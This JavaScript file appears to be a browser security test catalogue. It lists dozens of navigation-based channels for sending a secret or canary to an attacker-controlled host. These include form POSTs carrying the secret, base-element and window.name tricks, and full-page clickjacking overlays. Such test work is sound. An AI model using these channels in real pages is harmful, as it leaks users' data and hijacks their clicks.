/**
 * Channels by navigation of the page to an address with the canary. The attacker's response is 204 (No Content), so
 * that the page stays.
 */

way("location.href", ({ address }) => (location.href = address), ALONE);
way("location.assign", ({ address }) => location.assign(address), ALONE);
way("location.replace", ({ address }) => location.replace(address), ALONE);
way("the document's location", ({ address }) => (document.location = address), ALONE);
way("navigation.navigate", ({ address }) => void navigation.navigate(address), ALONE);
way("link clicked by a script", ({ address }) => put("a", { href: address }).click(), ALONE);
way("area clicked by a script", ({ address }) => put("area", { href: address }, put("map")).click(), ALONE);
way("SVG link clicked by a script", ({ address }) => {
  const link = put("div").appendChild(make("svg")).appendChild(make("a"));
  link.setAttribute("href", address);
  link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
}, ALONE);
way("link downloaded", ({ address }) => put("a", { href: address, download: "x" }).click(), ALONE);
way("refresh", ({ address }) => put("meta", { "http-equiv": "refresh", content: `0; url=${address}` }, document.head), ALONE);
way("window.open onto the page itself", ({ address }) => open(address, "_self"), ALONE);
way("form", ({ address }) => put("form", { action: address }).submit(), ALONE);
way("form by POST", ({ attacker, secret }) => {
  const form = put("form", { action: `${attacker}/form`, method: "post" });
  put("input", { name: "x", value: secret }, form);
  form.submit();
}, ALONE);
way("form by requestSubmit", ({ address }) => put("form", { action: address }).requestSubmit(), ALONE);
way("form by its button", ({ address }) => put("button", { formaction: address }, put("form")).click(), ALONE);
way("from a fresh window: parent.location", ({ address }) => (freshWindow().parent.location.href = address), ALONE);
way("from a fresh window: link at the top", ({ address }) => put("a", { href: address, target: "_top" }, freshWindow().document.body).click(), ALONE);
way("from a fresh window: window.open at the top", ({ address }) => void freshWindow().open(address, "_top"), ALONE);
way("from a fresh window: form at the top", ({ address }) => put("form", { action: address, target: "_top" }, freshWindow().document.body).submit(), ALONE);
way("from a fresh window: refresh of a script address", ({ address }) => (freshWindow().location = `javascript:top.location="${address}"`), ALONE);

way("own host: location", ({ own, secret }) => (location.href = `${own}/?${secret}`), ALONE);
way("own host: the page's own address, with a question mark", ({ secret }) => (location.search = secret), ALONE);
way("own host: link clicked by a script", ({ own, secret }) => put("a", { href: `${own}/?${secret}` }).click(), ALONE);
way("own host: form", ({ own, secret }) => {
  const form = put("form", { action: `${own}/` });
  put("input", { name: "x", value: secret }, form);
  form.submit();
}, ALONE);
way("own host: address changed, then loaded again", ({ secret }) => withAddress(secret, () => location.reload()), ALONE);
way("own host: address changed, then navigation.reload", ({ secret }) => withAddress(secret, () => void navigation.reload()), ALONE);
way("own host: address changed, then gone to by history", ({ secret }) => withAddress(secret, () => history.go(0)), ALONE);

way("a person clicks a link laid over the page", ({ address }) => cover("a", { href: address }), BY_CLICK);
way("own host: a person clicks a link laid over the page", ({ own, secret }) => cover("a", { href: `${own}/?${secret}` }), BY_CLICK);
way("a person clicks a form's button laid over the page", ({ address }) => cover("button", {}, put("form", { action: address })), BY_CLICK);
way("a person clicks a link after the page's base is changed", ({ attacker, secret }) => {
  put("base", { href: `${attacker}/${secret}/` }, document.head);
  cover("a", { href: "x" });
}, BY_CLICK);
way("a person clicks a link that pings", ({ address }) => cover("a", { href: "#x", ping: address }), BY_CLICK);
way("a click starts a script that leads elsewhere", ({ address }) => cover("button").addEventListener("click", () => (location.href = address)), BY_CLICK);

way("window.name, read by the next page", ({ attacker, secret }) => {
  name = secret;
  location.href = `${attacker}/reads-name`;
}, ALONE);

/**
 * Covers the page with an element, which then gets every click.
 * @param {string} tag
 * @param {object} [attributes]
 * @param {ParentNode} [parent]
 */
function cover(tag, attributes, parent) {
  const element = put(tag, attributes, parent);
  Object.assign(element.style, { position: "fixed", inset: "0", zIndex: "2147483647", width: "100%", height: "100%" });
  element.id = "cover";
  return element;
}

/** @param {string} secret @param {() => void} act */
function withAddress(secret, act) {
  history.replaceState(null, "", `?${secret}`);
  act();
}
